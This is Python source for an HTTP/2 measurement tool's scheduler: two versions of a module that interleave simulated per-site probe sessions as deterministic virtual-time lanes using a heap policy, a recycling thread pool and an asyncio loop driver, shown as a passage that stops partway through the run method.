        best_g, best_index = _INFINITY, -1
        for other in active:
            if other is lane:
                continue
            if other.position < best_g or (
                other.position == best_g and other.index < best_index
            ):
                best_g, best_index = other.position, other.index
        lane.horizon_g = best_g + self.quantum if best_g < _INFINITY else best_g
        lane.horizon_index = best_index


class InterleavedScheduler:
    """Run site scans as cooperatively interleaved virtual-time lanes.

    A generator factory: :meth:`run` yields one
    :class:`~repro.scope.parallel.SiteResult` per task in (globally
    deterministic) completion order.  Teardown is exception-safe: on
    ``GeneratorExit`` / ``KeyboardInterrupt`` every lane is aborted and
    joined, so ``run_campaign``'s SIGINT path flushes its journal with
    no lane thread left running.
    """

    def __init__(
        self,
        sites,
        tasks: Iterable,
        options,
        *,
        concurrency: int,
        policy_seed: int | None = None,
        metrics: ConcurrencyMetrics | None = None,
    ):
        self.sites = sites
        self.tasks = list(tasks)
        self.options = options
        self.concurrency = max(1, int(concurrency))
        self.metrics = metrics if metrics is not None else ConcurrencyMetrics()
        self.metrics.concurrency = self.concurrency
        self._policy = _Policy(
            rng=Random(policy_seed) if policy_seed is not None else None
        )
        self._baton = threading.Event()
        self._next_index = 0

    # -- lane side ---------------------------------------------------------

    def _lane_scan(self, lane: _Lane) -> SiteReport:
        """Scan one site with the serial path's exact semantics: any
        exception becomes an error-bearing report, never a dead lane."""
        from repro.scope.scanner import scan_site

        site = self.sites[lane.task.site_index]
        options = self.options
        try:
            return scan_site(
                site,
                include=options.include,
                seed=options.seed + lane.task.site_index,
                fault_plan=options.fault_plan,
                resilience=options.resilience,
                backend_factory=lambda network: InterleavedBackend(
                    network, lane
                ),
            )
        except Exception as exc:  # noqa: BLE001 - one site, one report
            report = SiteReport(domain=site.domain)
            report.errors.append(make_scan_error("scan", exc))
            return report

    def _lane_main(self, lane: _Lane) -> None:
        try:
            lane.report = self._lane_scan(lane)
        except SchedulerAbort:
            pass
        except BaseException as exc:  # pragma: no cover - driver bug
            lane.failure = exc
        finally:
            lane.finished = True
            self._baton.set()

    # -- scheduler side ----------------------------------------------------

    def _admit(self, task, global_now: float) -> _Lane:
        lane = _Lane(self._next_index, task, global_now, self._baton)
        self._next_index += 1
        self.metrics.admitted += 1
        return lane

    def _grant(self, lane: _Lane) -> None:
        if lane.thread is None:
            lane.thread = threading.Thread(
                target=self._lane_main,
                args=(lane,),
                name=f"h2scope-lane-{lane.index}",
                daemon=True,
            )
            try:
                previous = threading.stack_size(LANE_STACK_BYTES)
            except (ValueError, RuntimeError):  # pragma: no cover - platform
                previous = None
            try:
                lane.thread.start()
            finally:
                if previous is not None:
                    threading.stack_size(previous)
        else:
            lane.resume.set()

    def _abort(self, active: list[_Lane]) -> None:
        lanes = [lane for lane in active if lane.thread is not None]
        for lane in lanes:
            lane.aborted = True
        alive = [lane for lane in lanes if lane.thread.is_alive()]
        deadline = time.monotonic() + 10.0
        while alive and time.monotonic() < deadline:
            for lane in alive:
                # Repeated set() closes the clear()/set() race with a
                # lane that is parking concurrently with the abort.
                lane.resume.set()
            for lane in alive:
                lane.thread.join(timeout=0.05)
            alive = [lane for lane in alive if lane.thread.is_alive()]

    def run(self) -> Iterator:
        from repro.scope.parallel import SiteResult

        backlog = deque(self.tasks)
        active: list[_Lane] = []
        global_now = 0.0
        metrics = self.metrics
        try:
            while backlog or active:
                while backlog and len(active) < self.concurrency:
                    active.append(self._admit(backlog.popleft(), global_now))
                if len(active) > metrics.high_water:
                    metrics.high_water = len(active)
                lane = self._policy.pick(active)
                global_now = max(global_now, lane.position)
                self._policy.set_horizon(lane, active)
                self._baton.clear()
                self._grant(lane)
                # Exactly one lane runs between grants, so the baton can
                # only be set by ``lane`` parking or finishing.
                self._baton.wait()
                metrics.handoffs = (
                    metrics.handoffs + 1
                )  # one resume per grant
                if lane.finished:
                    active.remove(lane)
                    global_now = max(global_now, lane.position)
                    metrics.completed += 1
                    if lane.position > metrics.virtual_makespan:
                        metrics.virtual_makespan = lane.position
                    lane.thread.join(timeout=10.0)
                    if lane.failure is not None:
                        raise lane.failure
                    yield SiteResult(lane.task, lane.report)
        finally:
            self._abort(active)


def scan_interleaved(
    sites,
    tasks: Iterable,
    options,
    *,
    concurrency: int | None = None,
    policy_seed: int | None = None,
    metrics: ConcurrencyMetrics | None = None,
) -> Iterator:
    """Scan ``tasks`` with up to ``concurrency`` interleaved sessions.

    Yields :class:`~repro.scope.parallel.SiteResult` in completion
    order (deterministic for the default policy; seeded-random for the
    fuzz battery's ``policy_seed``).  ``concurrency`` defaults to
    ``options.concurrency``.  With one task or ``concurrency <= 1`` the
    scheduler machinery is bypassed entirely — the plain serial loop is
    both faster and the baseline the determinism battery diffs against.
    """
    from repro.scope.parallel import SiteResult, _scan_one

    tasks = list(tasks)
    if concurrency is None:
        concurrency = getattr(options, "concurrency", 1)
    concurrency = max(1, int(concurrency))
    if (concurrency <= 1 or len(tasks) <= 1) and policy_seed is None:
        if metrics is not None:
            metrics.concurrency = concurrency
            metrics.admitted = metrics.completed = len(tasks)
            metrics.high_water = min(1, len(tasks))
        makespan = 0.0
        for task in tasks:
            result = SiteResult(
                task, _scan_one(sites[task.site_index], task, options)
            )
            makespan += result.report.scan_virtual_time
            if metrics is not None:
                metrics.virtual_makespan = makespan
            yield result
        return
    scheduler = InterleavedScheduler(
        sites,
        tasks,
        options,
        concurrency=concurrency,
        policy_seed=policy_seed,
        metrics=metrics,
    )
    yield from scheduler.run()


# ---------------------------------------------------------------------------
# Shared asyncio loop driver (the socket backend's single event loop)
# ---------------------------------------------------------------------------


class LoopDriver:
    """One asyncio event loop on one thread, shared by many backends.

    The socket-backend sibling of the virtual-time scheduler: instead of
    every live session owning a private polling loop (PR 6's thread
    pool, which tops out around a few hundred sessions), all sockets
    multiplex onto this single loop and each session's ``run_until``
    blocks on an event the loop signals when *that* backend has
    activity.  See :class:`repro.net.socket_backend.SocketBackend` for
    the delivery contract (loop thread enqueues, session thread pumps).
    """

    def __init__(self) -> None:
        import asyncio

        self._loop = asyncio.new_event_loop()
        self._started = threading.Event()
        self._thread = threading.Thread(
            target=self._run, name="h2scope-loop", daemon=True
        )
        self._thread.start()
        self._started.wait()

    def _run(self) -> None:
        import asyncio

        asyncio.set_event_loop(self._loop)
        self._loop.call_soon(self._started.set)
        try:
            self._loop.run_forever()
        finally:
            self._loop.close()

    @property
    def loop(self):
        return self._loop

    def close(self) -> None:
        """Stop and release the loop (idempotent)."""
        if self._loop.is_closed():
            return
        try:
            self._loop.call_soon_threadsafe(self._loop.stop)
        except RuntimeError:  # pragma: no cover - already stopping
            pass
        self._thread.join(timeout=10.0)

    def __enter__(self) -> "LoopDriver":
        return self

    def __exit__(self, *exc) -> None:
        self.close()
