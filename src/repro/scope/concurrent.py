"""Single-loop session multiplexing: N in-flight probe sessions, one lane.

``BENCH_parallel_scan.json`` showed process sharding is a net *loss* on
small hosts (fork/IPC overhead dominates post-PR-4 per-site cost), and
the paper's own prober only reached the Alexa-1M by keeping thousands
of connections in flight from one process.  This module is that lever:
a cooperative scheduler that keeps up to ``concurrency`` probe sessions
in flight inside one process, on one logical event loop.

Two facts make this safe and simple:

* **Private universes.**  Every site is scanned in its own
  ``Simulation`` + ``Network`` seeded ``(seed + site_index)``, so a
  site's report is a pure function of the manifest.  *Any* interleaving
  of sessions therefore preserves byte-identical reports — the
  scheduler only has to be deterministic (stable completion order),
  non-starving, and isolated (one session's fault or retry cannot stall
  the others).
* **Sans-IO probes.**  All probe waits go through
  ``TransportBackend.run_until`` / ``sleep_until`` (PR 5), so a backend
  subclass can slice those waits at event boundaries and hand control
  to whichever session is earliest on a *global* virtual clock.

Scheduler model (the "baton")
-----------------------------

Probe code is synchronous, so a mid-scan session lives on an OS thread
— but exactly **one** thread runs at a time: a baton is handed off at
backend wait points, which is what makes this a single logical event
loop rather than a thread pool.  Each lane ``i`` is admitted at global
virtual time ``offset_i`` (the global clock when a slot freed) and its
global position is ``offset_i + sim_i.now``.  When a lane reaches a
wait, :class:`InterleavedBackend` computes the global time of its next
step (next simulation event, or the wait deadline) and parks if — and
only if — some other lane wakes earlier: **global virtual time only
advances when every lane with an earlier wake-up has run**.  The
deterministic policy always grants the lane with the minimal
``(wake_time, admission_index)``; because ties are broken by admission
index, the schedule (and thus the completion order) is a pure function
of the task list.  A seeded-random policy is also provided: it grants a
uniformly random lane one event step per grant, which the fuzz battery
uses to prove that *no* interleaving can change a single report byte.

The slice optimisation matters: a full park/resume handoff costs two
Event round-trips, so a lane only parks when another lane's wake time
is actually earlier — otherwise it keeps running inline.  With similar
per-site costs a lane processes many events per handoff and the
scheduling overhead stays a few percent of the scan itself.

Scaling to 16k lanes (ISSUE 9)
------------------------------

Two costs used to bound the usable width at ~1k:

* **O(active) grant arithmetic.**  Picking the next lane and computing
  its run horizon were linear scans over every in-flight lane — two
  full passes per handoff, ~130M lane visits for one 16k-wide sweep.
  The deterministic policy is now an indexed min-heap keyed on
  ``(position, index)`` with lazy invalidation (:class:`_HeapPolicy`):
  ``pick`` is the heap top, the horizon is the second-best entry, both
  O(log n) amortised.  The PR 8 linear arithmetic is retained verbatim
  as :class:`_LinearPolicy` (the ``huffman_ref`` idiom) and the test
  battery asserts decision-for-decision equality between the two.

* **One OS thread per admitted lane.**  A mid-scan lane's continuation
  is its thread stack — that cannot be recycled without native stack
  switching.  But a lane that has not been *granted* yet has a trivial
  continuation ("start the scan"), and its universe does not exist yet
  either.  The scheduler therefore gates lane *starts* on a bounded
  recycling pool of runner threads (:class:`_LanePool`, default
  :data:`LANE_POOL_SIZE`): admitted lanes queue as lightweight
  ``_Lane`` records, at most ``pool`` of them are ever mid-scan, and a
  runner that finishes a site picks up the next fresh lane instead of
  dying — resident stacks *and* live universes drop from O(width) to
  O(pool), and thread churn from O(sites) to O(pool).  Gating cannot
  change a single byte: universes are private, a lane's position
  trajectory (``offset + local event times``) is independent of when
  it executes, and admission offsets — the only cross-lane coupling —
  are still assigned by the same global-clock rule.  With
  ``pool >= width`` the grant sequence is exactly PR 8's; with a
  smaller pool the schedule is still a pure function of the task list,
  just with starts deferred until a runner frees.

Composition: :mod:`repro.scope.parallel` embeds this scheduler both in
its serial path and inside each worker process, so ``--workers W
--concurrency C`` keeps ``W x C`` sessions in flight while the parent
stays the sole SQLite writer and the reorder buffer keeps journal bytes
identical to a serial run.
"""

from __future__ import annotations

import heapq
import os
import queue
import threading
import time
import warnings
from collections import deque
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from random import Random
from time import perf_counter

from repro.net.backend import SimulatedBackend
from repro.scope.report import SiteReport
from repro.scope.resilience import make_scan_error

_INFINITY = float("inf")

#: Stack size for lane threads.  Lanes are shallow (probe code plus the
#: engine's callback nesting), and ~1k in-flight lanes at the default
#: 8 MiB would reserve gigabytes of address space for nothing.
LANE_STACK_BYTES = 1 << 20

#: Default size of the lane-runner recycling pool: how many lanes may
#: be mid-scan (thread + universe resident) at once.  Admitted lanes
#: beyond the pool wait as queue records until a runner frees.  Env
#: knob ``H2SCOPE_LANE_POOL``: an integer overrides the size, ``0``
#: disables pooling entirely (one thread per lane, the PR 8 layout —
#: what the benchmark's RSS comparison measures against).
LANE_POOL_SIZE = 64

#: Env knob overriding (or with ``0``, disabling) the lane pool.
LANE_POOL_ENV = "H2SCOPE_LANE_POOL"

#: Hard ceiling on ``--concurrency``.  Beyond 16k lanes per worker the
#: admission window stops buying modeled makespan on any realistic
#: population (the longest site dominates) while per-lane bookkeeping
#: keeps growing; requests above it are clamped with a warning.
MAX_CONCURRENCY = 16384

#: Seconds a lane/runner thread gets to exit after finishing or being
#: aborted before the scheduler declares it leaked and raises
#: :class:`LaneLeakError`.  Module-level so tests can shrink it.
LANE_JOIN_TIMEOUT = 10.0

#: Hard ceiling on events processed inside one ``run_until`` /
#: ``sleep_until`` slice — the same runaway guard ``Simulation.run``
#: applies, kept so a pathological self-rescheduling universe cannot
#: wedge the whole scheduler.
_MAX_SLICE_EVENTS = 10_000_000


class SchedulerAbort(BaseException):
    """Raised inside a lane thread to unwind an aborted scan.

    Deliberately a ``BaseException``: the probe layer's "a scan survives
    anything" handlers catch ``Exception``, and an abort must tear the
    lane down, not become an error-bearing report.
    """


class LaneLeakError(RuntimeError):
    """A lane or runner thread outlived the scheduler's join deadline.

    PR 8 silently ignored a ``join`` timeout, which would have left a
    wedged lane thread running (and its universe resident) behind a
    "completed" campaign.  The scheduler now names the leak instead of
    shrugging: this error lists the threads that refused to exit so the
    wedge is attributable rather than a slow memory mystery.
    """


@dataclass
class ConcurrencyMetrics:
    """Observable scheduler behaviour, for tests and the benchmark.

    ``virtual_makespan`` is the campaign's end-to-end *global* virtual
    time: what the wall-clock duration becomes once the waits are real
    network waits instead of simulated ones.  ``sites / makespan`` is
    the modeled scan throughput the benchmark sweep records alongside
    honest wall throughput (interleaving cannot shrink CPU time, but it
    collapses wait time — which is what dominates a real campaign).
    """

    concurrency: int = 1
    admitted: int = 0
    completed: int = 0
    #: Most lanes simultaneously in flight (never above ``concurrency``).
    high_water: int = 0
    #: Most lanes simultaneously *mid-scan* — thread + universe resident.
    #: Bounded by the lane pool size, not the admission width.
    resident_high_water: int = 0
    #: OS threads created over the scheduler's lifetime.  With the
    #: recycling pool this is O(pool); thread-per-lane mode pays one
    #: per admitted lane.
    threads_spawned: int = 0
    #: Full park/resume baton handoffs (the slice optimisation keeps
    #: this far below the event count).
    handoffs: int = 0
    #: Global virtual time at which the last lane completed.
    virtual_makespan: float = 0.0


@dataclass
class HandoffProfile:
    """Per-phase cost accounting for the scheduler handoff path.

    Enabled only when explicitly passed to the scheduler (the hot loop
    takes a single ``is not None`` branch otherwise), this splits each
    grant into the phases ``tools/profile_scan.py --concurrency``
    renders, so a future scheduler regression is attributable to pick
    arithmetic vs. horizon arithmetic vs. thread handoff latency.
    """

    grants: int = 0
    #: Seconds choosing the next lane (heap top / linear scan).
    pick_s: float = 0.0
    #: Seconds deriving the granted lane's run horizon.
    horizon_s: float = 0.0
    #: Seconds the scheduler thread spent blocked on the baton.
    baton_wait_s: float = 0.0
    #: Seconds between a resume grant and the lane thread running.
    resume_s: float = 0.0
    resumes: int = 0
    _grant_stamp: float = 0.0

    def rows(self) -> list[dict]:
        """Per-handoff averages, in microseconds, table-ready."""
        grants = max(1, self.grants)
        resumes = max(1, self.resumes)
        return [
            {"phase": "grant pick", "count": self.grants,
             "total_s": round(self.pick_s, 4),
             "avg_us": round(1e6 * self.pick_s / grants, 2)},
            {"phase": "horizon", "count": self.grants,
             "total_s": round(self.horizon_s, 4),
             "avg_us": round(1e6 * self.horizon_s / grants, 2)},
            {"phase": "baton wait", "count": self.grants,
             "total_s": round(self.baton_wait_s, 4),
             "avg_us": round(1e6 * self.baton_wait_s / grants, 2)},
            {"phase": "lane resume", "count": self.resumes,
             "total_s": round(self.resume_s, 4),
             "avg_us": round(1e6 * self.resume_s / resumes, 2)},
        ]


class _Lane:
    """One in-flight session: its thread, clock offset and park state."""

    __slots__ = (
        "index",
        "task",
        "offset",
        "position",
        "horizon_g",
        "horizon_index",
        "resume",
        "thread",
        "started",
        "finished",
        "report",
        "failure",
        "aborted",
        "handoffs",
        "heap_entry",
        "profile",
        "_baton",
    )

    def __init__(self, index: int, task, offset: float, baton: threading.Event):
        self.index = index
        self.task = task
        #: Global virtual time at admission; the lane's global position
        #: is ``offset + local_sim.now``.
        self.offset = offset
        self.position = offset
        self.horizon_g = _INFINITY
        self.horizon_index = -1
        self.resume = threading.Event()
        self.thread: threading.Thread | None = None
        #: True once the lane has been granted for the first time and a
        #: runner is hosting its scan.  A lane that never started holds
        #: no thread and no universe — only this record.
        self.started = False
        self.finished = False
        self.report: SiteReport | None = None
        self.failure: BaseException | None = None
        self.aborted = False
        self.handoffs = 0
        #: The policy's current heap entry for this lane; identity is
        #: the validity token for lazy invalidation.
        self.heap_entry: tuple | None = None
        self.profile: HandoffProfile | None = None
        self._baton = baton

    # Called by InterleavedBackend before every step that would move
    # this lane's global position to ``wake_g`` — the scheduler's only
    # hook into the scan, so it is kept deliberately cheap: two float
    # compares on the inline path, a full handoff only when another
    # lane genuinely wakes earlier.
    def advance(self, wake_g: float) -> None:
        if self.aborted:
            raise SchedulerAbort
        if wake_g < self.position:  # global position is monotone (the
            wake_g = self.position  # backward-clock oddity stays local)
        if wake_g < self.horizon_g or (
            wake_g == self.horizon_g and self.index < self.horizon_index
        ):
            self.position = wake_g
            return
        self._park(wake_g)

    def _park(self, wake_g: float) -> None:
        self.position = wake_g
        self.handoffs += 1
        self.resume.clear()
        self._baton.set()  # hand control back to the scheduler…
        self.resume.wait()  # …and sleep until granted again
        profile = self.profile
        if profile is not None:
            profile.resume_s += perf_counter() - profile._grant_stamp
            profile.resumes += 1
        if self.aborted:
            raise SchedulerAbort


class InterleavedBackend(SimulatedBackend):
    """A :class:`SimulatedBackend` whose waits yield at event boundaries.

    Byte-compatibility contract: for the session's *private* universe
    this class is observationally identical to ``SimulatedBackend`` —
    the same events run at the same local times, the predicate is
    evaluated exactly as often (once up front, once per executed
    callback, once at the deadline only when the clock moved), and the
    pinned PR 4 edge semantics hold: a ``timeout=0`` wait returns False
    without re-evaluating the predicate when the clock did not move, and
    ``sleep_until`` a time *before* now preserves ``Simulation.run``'s
    documented backward-clock oddity by delegating the final clock move
    to it.  The only addition is a :meth:`_Lane.advance` call before
    each step, which may suspend the thread — invisible to the scan.

    The event loop here is the scheduler's innermost hot path (one
    iteration per simulated packet), so it uses the paired
    ``Simulation.next_event_time`` + ``Simulation.fire_head`` calls:
    the peek already skimmed cancelled entries off the heap top, and
    ``fire_head`` pops and runs that exact head without re-scanning —
    one heap access per event instead of two.
    """

    def __init__(self, network, lane: _Lane):
        super().__init__(network)
        self._lane = lane

    def run_until(self, predicate: Callable[[], bool], timeout: float) -> bool:
        sim = self.sim
        lane = self._lane
        offset = lane.offset
        deadline = sim.now + timeout
        if predicate():
            return True
        for _ in range(_MAX_SLICE_EVENTS):
            peek = sim.next_event_time()
            if peek is None or peek > deadline:
                if deadline == sim.now:
                    return False
                lane.advance(offset + deadline)
                sim.run(until=deadline)
                return predicate()
            lane.advance(offset + peek)
            sim.fire_head()
            if predicate():
                return True
        raise RuntimeError(f"simulation exceeded {_MAX_SLICE_EVENTS} events")

    def sleep_until(self, when: float) -> None:
        sim = self.sim
        lane = self._lane
        offset = lane.offset
        for _ in range(_MAX_SLICE_EVENTS):
            peek = sim.next_event_time()
            if peek is None or peek > when:
                break
            lane.advance(offset + peek)
            sim.fire_head()
        else:  # pragma: no cover - runaway universe
            raise RuntimeError(f"simulation exceeded {_MAX_SLICE_EVENTS} events")
        if when > sim.now:
            lane.advance(offset + when)
        sim.run(until=when)


#: Virtual seconds a granted lane may run *past* the earliest other
#: lane's position before parking.  Byte-identity never depends on the
#: global interleaving (universes are private), so strict event-level
#: lockstep buys nothing but handoffs — and with near-identical
#: universes the lanes tie at every event boundary, degrading to one
#: park per simulated event (~25 handoffs/site).  A fixed quantum keeps
#: the schedule a pure function of (position, index) — still fully
#: deterministic — while cutting handoffs roughly tenfold; the global
#: clock skew it admits is bounded by the quantum itself.
_HORIZON_QUANTUM = 0.5


class _LinearPolicy:
    """PR 8's grant arithmetic, verbatim: two O(n) scans per handoff.

    Retained as the executable reference the heap policy is proved
    against (the ``huffman_ref`` idiom): ``peek`` is a full min-scan
    over the started lanes, ``best_other`` a second scan excluding the
    granted lane.  Selectable via ``grant_policy="linear"`` so whole
    campaigns can be run decision-for-decision against the heap.
    """

    __slots__ = ("lanes",)

    def __init__(self) -> None:
        self.lanes: list[_Lane] = []

    def add(self, lane: _Lane) -> None:
        self.lanes.append(lane)

    def remove(self, lane: _Lane) -> None:
        self.lanes.remove(lane)

    def reposition(self, lane: _Lane) -> None:
        pass  # the scan always reads live positions

    def peek(self) -> _Lane | None:
        """The started lane with minimal ``(position, index)``."""
        if not self.lanes:
            return None
        return min(self.lanes, key=lambda lane: (lane.position, lane.index))

    def best_other(self, granted: _Lane) -> tuple[float, int]:
        """Minimal ``(position, index)`` over started lanes != granted."""
        best_g, best_index = _INFINITY, -1
        for other in self.lanes:
            if other is granted:
                continue
            if other.position < best_g or (
                other.position == best_g and other.index < best_index
            ):
                best_g, best_index = other.position, other.index
        return best_g, best_index


class _HeapPolicy:
    """Indexed min-heap over started lanes, lazily invalidated.

    Entries are ``(position, index, lane)`` tuples; ``lane.heap_entry``
    holds the lane's *current* entry and is the validity token — a
    reposition pushes a fresh entry and orphans the old one, which is
    discarded when it surfaces at the top.  Admission indexes are
    unique, so entries totally order even at tied or infinite
    positions and the lane object itself is never compared.

    ``peek`` skims stale entries then reads the top; ``best_other``
    needs the best entry *excluding* the granted lane, which is found
    by popping the granted lane's (single) valid entry aside, reading
    the next fresh top, and pushing it back — O(log n) amortised, and
    every stale entry is paid for exactly once across the run.
    """

    __slots__ = ("_heap", "_size")

    def __init__(self) -> None:
        self._heap: list[tuple[float, int, _Lane]] = []
        self._size = 0  # live entries, for the compaction bound

    def add(self, lane: _Lane) -> None:
        entry = (lane.position, lane.index, lane)
        lane.heap_entry = entry
        heapq.heappush(self._heap, entry)
        self._size += 1

    def remove(self, lane: _Lane) -> None:
        lane.heap_entry = None  # the orphan is dropped when it surfaces
        self._size -= 1

    def reposition(self, lane: _Lane) -> None:
        entry = (lane.position, lane.index, lane)
        lane.heap_entry = entry
        heapq.heappush(self._heap, entry)

    def _skim(self) -> None:
        heap = self._heap
        while heap and heap[0][2].heap_entry is not heap[0]:
            heapq.heappop(heap)

    def peek(self) -> _Lane | None:
        self._skim()
        return self._heap[0][2] if self._heap else None

    def best_other(self, granted: _Lane) -> tuple[float, int]:
        heap = self._heap
        aside = None
        result = (_INFINITY, -1)
        while heap:
            entry = heap[0]
            if entry[2].heap_entry is not entry:
                heapq.heappop(heap)  # stale: gone for good
                continue
            if entry[2] is granted:  # its single valid entry
                aside = heapq.heappop(heap)
                continue
            # A best-other parked at +inf is indistinguishable from "no
            # other lane" in the linear arithmetic (its strict compares
            # never displace the (inf, -1) sentinel); reproduce that
            # exactly so the policies stay decision-identical.
            if entry[0] < _INFINITY:
                result = (entry[0], entry[1])
            break
        if aside is not None:
            heapq.heappush(heap, aside)
        return result


def _spawn_lane_thread(target, name: str, *args) -> threading.Thread:
    """Start a daemon thread with the small lane stack size."""
    thread = threading.Thread(target=target, args=args, name=name, daemon=True)
    try:
        previous = threading.stack_size(LANE_STACK_BYTES)
    except (ValueError, RuntimeError):  # pragma: no cover - platform
        previous = None
    try:
        thread.start()
    finally:
        if previous is not None:
            threading.stack_size(previous)
    return thread


class _LanePool:
    """Bounded recycling pool of reusable lane-runner threads.

    A runner picks up a fresh lane's continuation at grant time, hosts
    the scan through every park/resume on its own stack until the site
    finishes, then returns to the queue for the next lane.  The
    scheduler's slot gate guarantees at most ``size`` lanes are ever
    mid-scan, so resident stacks and universes are O(size) while the
    admission window is O(width) lightweight records — and a
    million-site campaign creates ``size`` threads, not a million.
    """

    __slots__ = ("size", "_main", "_inbox", "threads")

    def __init__(self, size: int, main: Callable[[_Lane], None]) -> None:
        self.size = size
        self._main = main
        self._inbox: queue.SimpleQueue = queue.SimpleQueue()
        self.threads: list[threading.Thread] = []

    def ensure_threads(self, busy: int) -> None:
        """Spawn runners lazily: just enough for ``busy`` hosted lanes."""
        while len(self.threads) < min(busy, self.size):
            self.threads.append(
                _spawn_lane_thread(
                    self._run, f"h2scope-lane-runner-{len(self.threads)}"
                )
            )

    def dispatch(self, lane: _Lane) -> None:
        self._inbox.put(lane)

    def _run(self) -> None:
        while True:
            lane = self._inbox.get()
            if lane is None:
                return
            self._main(lane)

    def shutdown(self, deadline: float) -> list[threading.Thread]:
        """Stop all runners; return the ones alive past ``deadline``."""
        for _ in self.threads:
            self._inbox.put(None)
        leaked = []
        for thread in self.threads:
            thread.join(timeout=max(0.0, deadline - time.monotonic()))
            if thread.is_alive():
                leaked.append(thread)
        return leaked


def _resolve_pool_size(explicit: int | None) -> int:
    """Pool size from the argument, else the env knob, else the default.

    Returns 0 for "pooling disabled" (one thread per lane).
    """
    if explicit is not None:
        return max(0, int(explicit))
    env = os.environ.get(LANE_POOL_ENV)
    if env is not None:
        try:
            return max(0, int(env))
        except ValueError:
            warnings.warn(
                f"ignoring non-integer {LANE_POOL_ENV}={env!r}",
                RuntimeWarning,
                stacklevel=2,
            )
    return LANE_POOL_SIZE


class InterleavedScheduler:
    """Run site scans as cooperatively interleaved virtual-time lanes.

    A generator factory: :meth:`run` yields one
    :class:`~repro.scope.parallel.SiteResult` per task in (globally
    deterministic) completion order.  Teardown is exception-safe: on
    ``GeneratorExit`` / ``KeyboardInterrupt`` every lane is aborted and
    joined, so ``run_campaign``'s SIGINT path flushes its journal with
    no lane thread left running — and a lane that *refuses* to die is
    reported as a :class:`LaneLeakError` instead of silently leaked.
    """

    def __init__(
        self,
        sites,
        tasks: Iterable,
        options,
        *,
        concurrency: int,
        policy_seed: int | None = None,
        metrics: ConcurrencyMetrics | None = None,
        grant_policy: str = "heap",
        lane_pool_size: int | None = None,
        profile: HandoffProfile | None = None,
    ):
        self.sites = sites
        self.tasks = list(tasks)
        self.options = options
        concurrency = max(1, int(concurrency))
        if concurrency > MAX_CONCURRENCY:
            warnings.warn(
                "--concurrency exceeds the 16384-lane ceiling; clamping "
                "(wider admission windows stop buying modeled makespan)",
                RuntimeWarning,
                stacklevel=2,
            )
            concurrency = MAX_CONCURRENCY
        self.concurrency = concurrency
        self.metrics = metrics if metrics is not None else ConcurrencyMetrics()
        self.metrics.concurrency = self.concurrency
        self._rng = Random(policy_seed) if policy_seed is not None else None
        if grant_policy == "heap":
            self._policy = _HeapPolicy()
        elif grant_policy == "linear":
            self._policy = _LinearPolicy()
        else:
            raise ValueError(f"unknown grant policy {grant_policy!r}")
        #: The fuzz policy parks on every advance and needs every lane
        #: resumable at any instant, so it keeps one thread per lane.
        pool_size = 0 if self._rng is not None else _resolve_pool_size(
            lane_pool_size
        )
        self._pool = (
            _LanePool(pool_size, self._lane_main) if pool_size > 0 else None
        )
        self.profile = profile
        self._quantum = _HORIZON_QUANTUM
        self._baton = threading.Event()
        self._next_index = 0

    # -- lane side ---------------------------------------------------------

    def _lane_scan(self, lane: _Lane) -> SiteReport:
        """Scan one site with the serial path's exact semantics: any
        exception becomes an error-bearing report, never a dead lane."""
        from repro.scope.scanner import scan_site

        site = self.sites[lane.task.site_index]
        options = self.options
        try:
            return scan_site(
                site,
                include=options.include,
                seed=options.seed + lane.task.site_index,
                fault_plan=options.fault_plan,
                resilience=options.resilience,
                backend_factory=lambda network: InterleavedBackend(
                    network, lane
                ),
            )
        except Exception as exc:  # noqa: BLE001 - one site, one report
            report = SiteReport(domain=site.domain)
            report.errors.append(make_scan_error("scan", exc))
            return report

    def _lane_main(self, lane: _Lane) -> None:
        try:
            lane.report = self._lane_scan(lane)
        except SchedulerAbort:
            pass
        except BaseException as exc:  # pragma: no cover - driver bug
            lane.failure = exc
        finally:
            lane.finished = True
            self._baton.set()

    # -- scheduler side ----------------------------------------------------

    def _admit(self, task, global_now: float) -> _Lane:
        lane = _Lane(self._next_index, task, global_now, self._baton)
        lane.profile = self.profile
        self._next_index += 1
        self.metrics.admitted += 1
        return lane

    def _start_lane(self, lane: _Lane, busy: int) -> None:
        """Hand a never-granted lane to a runner (or its own thread)."""
        lane.started = True
        pool = self._pool
        if pool is not None:
            pool.ensure_threads(busy)
            self.metrics.threads_spawned = len(pool.threads)
            pool.dispatch(lane)
        else:
            lane.thread = _spawn_lane_thread(
                self._lane_main, f"h2scope-lane-{lane.index}", lane
            )
            self.metrics.threads_spawned += 1

    def _join_finished(self, lane: _Lane) -> None:
        """Reap a finished lane's private thread (thread-per-lane mode).

        PR 8 ignored a join timeout here — a wedged thread silently
        outlived its "completed" lane.  Now it is a named failure.
        """
        thread = lane.thread
        if thread is None:
            return
        thread.join(timeout=LANE_JOIN_TIMEOUT)
        if thread.is_alive():
            raise LaneLeakError(
                f"lane {lane.index} ({lane.task.domain}) finished but its "
                f"thread {thread.name!r} refused to exit within "
                f"{LANE_JOIN_TIMEOUT}s"
            )

    def _teardown(self, lanes: Iterable[_Lane]) -> None:
        """Abort every lane, reclaim every thread, and name any leak.

        Repeated ``resume.set()`` closes the clear()/set() race with a
        lane that is parking concurrently with the abort.  Fresh lanes
        never started, so they hold no thread and just get dropped.
        """
        lanes = list(lanes)
        for lane in lanes:
            lane.aborted = True
        deadline = time.monotonic() + LANE_JOIN_TIMEOUT
        pending = [
            lane for lane in lanes if lane.started and not lane.finished
        ]
        while pending and time.monotonic() < deadline:
            for lane in pending:
                lane.resume.set()
            time.sleep(0.002)
            pending = [lane for lane in pending if not lane.finished]
        leaked: list[threading.Thread] = []
        if self._pool is not None:
            leaked = self._pool.shutdown(deadline)
        else:
            for lane in lanes:
                thread = lane.thread
                if thread is None:
                    continue
                thread.join(timeout=max(0.0, deadline - time.monotonic()))
                if thread.is_alive():
                    leaked.append(thread)
        if pending or leaked:
            stuck = ", ".join(
                f"lane {lane.index} ({lane.task.domain})" for lane in pending
            ) or "no lane still marked unfinished"
            names = ", ".join(repr(t.name) for t in leaked) or "none"
            raise LaneLeakError(
                f"scheduler teardown leaked threads after "
                f"{LANE_JOIN_TIMEOUT}s: {stuck}; alive threads: {names}"
            )

    def run(self) -> Iterator:
        from repro.scope.parallel import SiteResult

        if self._rng is not None:
            yield from self._run_fuzz()
            return
        backlog = deque(self.tasks)
        fresh: deque[_Lane] = deque()
        in_flight: set[_Lane] = set()
        policy = self._policy
        pool_cap = self._pool.size if self._pool is not None else None
        metrics = self.metrics
        baton = self._baton
        profile = self.profile
        quantum = self._quantum
        concurrency = self.concurrency
        global_now = 0.0
